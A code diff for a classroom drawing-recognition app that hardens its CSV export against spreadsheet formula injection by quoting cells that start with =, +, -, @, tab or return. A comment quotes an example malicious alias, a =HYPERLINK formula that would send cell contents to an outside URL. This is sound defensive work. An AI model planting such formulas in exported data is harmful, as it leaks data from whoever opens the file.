@@ -11,6 +11,9 @@ from PIL import Image
 from lenet.classroom.records import Drawing, student_numbers
 
 CSV_COLUMNS = ("id", "meant", "answered", "confidence", "time", "alias")
+# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets: an alias such as
+# =HYPERLINK("http://…?"&A1) would run when the teacher opens the CSV. OWASP's rule: start it with a quote.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def to_npz(drawings: list[Drawing]) -> bytes:
@@ -34,13 +37,19 @@ def to_npz(drawings: list[Drawing]) -> bytes:
 
 
 def to_csv(drawings: list[Drawing]) -> bytes:
-    """One row per drawing: id, meant, answered, confidence, time (UTC, ISO 8601), alias."""
+    """One row per drawing: id, meant, answered, confidence, time (UTC, ISO 8601), alias (never a formula)."""
     text = io.StringIO()
     writer = csv.writer(text)
     writer.writerow(CSV_COLUMNS)
     for d in drawings:
-        writer.writerow([d.id, d.meant, d.answered, f"{d.confidence:.4f}", d.created_at.isoformat(), d.alias or ""])
+        cells = [d.id, d.meant, d.answered, f"{d.confidence:.4f}", d.created_at.isoformat(), d.alias or ""]
+        writer.writerow([inert(str(cell)) for cell in cells])
     return text.getvalue().encode()
+
+
+def inert(cell: str) -> str:
+    """`cell` as a spreadsheet shows it but never runs it (a leading ' when it would start a formula)."""
+    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
 
 
 def png_name(d: Drawing) -> str:
